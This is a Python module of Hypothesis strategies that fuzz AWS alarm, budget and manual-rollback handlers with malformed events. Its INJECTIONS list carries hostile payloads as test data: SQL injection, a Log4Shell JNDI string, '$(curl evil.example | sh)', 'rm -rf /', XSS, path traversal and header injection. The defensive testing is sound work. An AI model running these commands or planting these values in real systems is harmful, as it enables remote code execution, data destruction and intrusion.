"""Hypothesis strategies for hostile input: every event shape the remediators accept, broken.

Each strategy yields events that must be rejected: the alarm and budget names are never in
the playbook the tests use, and a manual request always has at least one thing wrong.
Junk comes mostly from one flat list (one draw each), which keeps 10,000 cases fast.
"""

from __future__ import annotations

import copy
import json

from hypothesis import strategies as st

from tests.conftest import load_event

KNOWN_TARGET = "arn:aws:lambda:eu-west-1:123456789012:function:orders:live"
KNOWN_ALARM, KNOWN_BUDGET = "test-orders-error-rate", "test-monthly"
PLAYBOOK = {
    "alarms": {KNOWN_ALARM: {"action": "rollback", "target": KNOWN_TARGET}},
    "budgets": {KNOWN_BUDGET: {"action": "rollback", "target": KNOWN_TARGET}},
}

# What attackers and accidents put in names and reasons.
INJECTIONS = [
    "'; DROP TABLE remediation; --",
    '" OR "1"="1',
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "$(curl evil.example | sh)",
    "`id`; rm -rf /",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "\x00\x01\x02\x1b[31mred",
    "line\r\nSet-Cookie: pwned=1",
    "%s%s%s%n%x",
    "attribute_not_exists(pk) OR 1=1",
    "#until <= :now",
    KNOWN_TARGET,
    "AWS Budgets: prod has exceeded your alert threshold",
    '{"action": "rollback", "target": "*"}',
    "\ud800\udfff lone surrogates \udc00",
    "\u202eevil\u202c right-to-left",
    "🔥💥" * 20,
    "Ω≈ç√∫µ≤≥÷ 田中さんにあげて下さい \u02dc",
    "[" * 5000,  # deeper than json.loads can go
    '{"a":' * 3000,
    "NaN",
    "null",
    "*",
    "",
    " ",
]
HUGE = ["A" * 256, "B" * 1025, "C" * 2049, "D" * 70_000, "🔥" * 100_000, "\u0301" * 5000]
JUNK = [
    None,
    True,
    False,
    0,
    -1,
    2**70,
    1.5,
    float("nan"),
    float("inf"),
    [],
    {},
    [None, 1, "x"],
    {"a": {"b": [1, {"c": None}]}},
    {"Sns": {}},
    {"Records": []},
    *INJECTIONS,
    *HUGE,
]
DELETE = object()  # marks a field to remove

text = st.one_of(st.sampled_from(INJECTIONS + HUGE), st.text(max_size=40))
junk = st.one_of(
    st.sampled_from(JUNK),
    st.text(max_size=30),
    st.integers(),
    st.floats(),
    st.lists(st.sampled_from(JUNK[:20]), max_size=3),
)
bad_names = st.one_of(text, st.sampled_from(INJECTIONS).map(lambda s: f"{KNOWN_ALARM}{s}")).filter(
    lambda name: name.strip() not in {KNOWN_ALARM, KNOWN_BUDGET}
)

_SNS = load_event("sns_alarm_single_metric.json")
_ALARM = load_event("cloudwatch_alarm_single_metric.json")
_DIRECT = load_event("lambda_alarm_action.json")


def envelope(message, subject) -> dict:
    event = copy.deepcopy(_SNS)
    event["Records"][0]["Sns"]["Message"] = message
    event["Records"][0]["Sns"]["Subject"] = subject
    return event


# Strategies are built once: hypothesis validates every new strategy object, which costs
# more than the draw itself.
FIELD_VALUE = st.one_of(st.just(DELETE), junk)
HOW = st.sampled_from(["json", "json", "ascii", "cut", "garbage", "other", "text"])
GARBAGE = st.sampled_from(["{", "}", '"', "\\", ",", "\x00"])
WRONG = st.sets(st.sampled_from(["action", "target", "params", "shape"]), min_size=1)
BAD_ACTION = st.one_of(junk, st.sampled_from(["revert", "ROLLBACK", "rollback "])).filter(
    lambda a: a != "rollback"
)
BAD_TARGET = st.one_of(junk, st.sampled_from(INJECTIONS).map(lambda s: KNOWN_TARGET + s)).filter(
    lambda t: t != KNOWN_TARGET
)
BAD_PARAMS = st.one_of(
    junk.filter(lambda v: not isinstance(v, dict)),
    st.builds(lambda k, v: {f"x{k}": v}, text, junk),
    st.sampled_from([{"window_minutes": v} for v in (0, -1, 10**9, "60", 60.5, True)]),
)
EXTRA_KEY = st.one_of(
    st.sampled_from(["source", "Records", "state", "dry-run", "Sns", "caller"]),
    text.map(lambda k: f"x-{k}"),
)
REQUIRED = st.sampled_from(["target", "reason", "requested_by"])
_FIELDS = {}


def corrupt(draw, obj: dict, most: int = 3) -> None:
    """Replace or delete up to ``most`` fields of ``obj`` with junk."""
    key = tuple(sorted(obj))
    names = _FIELDS.setdefault(key, st.sampled_from(key))
    for _ in range(draw(st.integers(0, most))):
        name = draw(names)
        value = draw(FIELD_VALUE)
        if value is DELETE:
            obj.pop(name, None)
        else:
            obj[name] = value


@st.composite
def message_text(draw, document: dict) -> str:
    """``document`` as JSON, or cut short, corrupted, not an object, or not JSON at all."""
    body = json.dumps(document, ensure_ascii=False)
    how = draw(HOW)
    if how == "json":
        return body
    if how == "ascii":
        return json.dumps(document)  # lone surrogates travel as \ud800 escapes
    if how == "cut":
        return body[: draw(st.integers(0, max(len(body) - 1, 0)))]
    if how == "garbage":
        at = draw(st.integers(0, len(body)))
        return body[:at] + draw(GARBAGE) + body[at:]
    if how == "other":
        return json.dumps(draw(junk))
    return draw(text)


@st.composite
def sns_alarms(draw) -> dict:
    """A CloudWatch alarm over SNS with a bad name and some fields replaced by junk."""
    alarm = copy.deepcopy(_ALARM)
    alarm["AlarmName"] = draw(bad_names)
    alarm["NewStateReason"] = draw(text)
    if draw(st.booleans()):  # an ARN that agrees with the bad name
        alarm["AlarmArn"] = alarm["AlarmArn"].rsplit(":", 1)[0] + ":" + alarm["AlarmName"]
    corrupt(draw, alarm)
    usual = f'ALARM: "{str(alarm.get("AlarmName"))[:60]}"'
    subject = usual if draw(st.booleans()) else draw(text)
    return envelope(draw(message_text(alarm)), subject)


@st.composite
def direct_alarms(draw) -> dict:
    """The Lambda alarm-action payload with a bad name and junk in places."""
    payload = copy.deepcopy(_DIRECT)
    payload["alarmData"]["alarmName"] = draw(bad_names)
    payload["alarmData"]["state"]["reason"] = draw(text)
    where = [payload, payload["alarmData"], payload["alarmData"]["state"]][draw(st.integers(0, 2))]
    corrupt(draw, where)
    return payload


@st.composite
def budgets(draw) -> dict:
    """An AWS Budgets notice for a budget the playbook does not know, or no name at all."""
    name = draw(bad_names)
    if draw(st.booleans()):
        subject = f"AWS Budgets: {name} has exceeded your alert threshold"
    else:
        subject = f"AWS Budgets: {name}"
    body = f"Budget Name: {name}\n" if draw(st.booleans()) else draw(text)
    return envelope(body, subject)


@st.composite
def manual_requests(draw) -> dict:
    """A manual request with at least one thing wrong (action, target, params or shape)."""
    request = {
        "action": "rollback",
        "target": KNOWN_TARGET,
        "params": {"window_minutes": 60},
        "reason": draw(text),
        "requested_by": draw(text),
    }
    wrong = draw(WRONG)
    if "action" in wrong:
        request["action"] = draw(BAD_ACTION)
    if "target" in wrong:
        request["target"] = draw(BAD_TARGET)
    if "params" in wrong:
        request["params"] = draw(BAD_PARAMS)
    if "shape" in wrong:
        if draw(st.booleans()):
            request[draw(EXTRA_KEY)] = draw(junk)
        else:
            request.pop(draw(REQUIRED))
    return request


any_event = st.one_of(
    junk,
    st.builds(lambda records: {"Records": records}, junk),
    st.builds(lambda sns: {"Records": [{"Sns": sns}]}, junk),
    sns_alarms(),
    direct_alarms(),
    budgets(),
    manual_requests(),
)
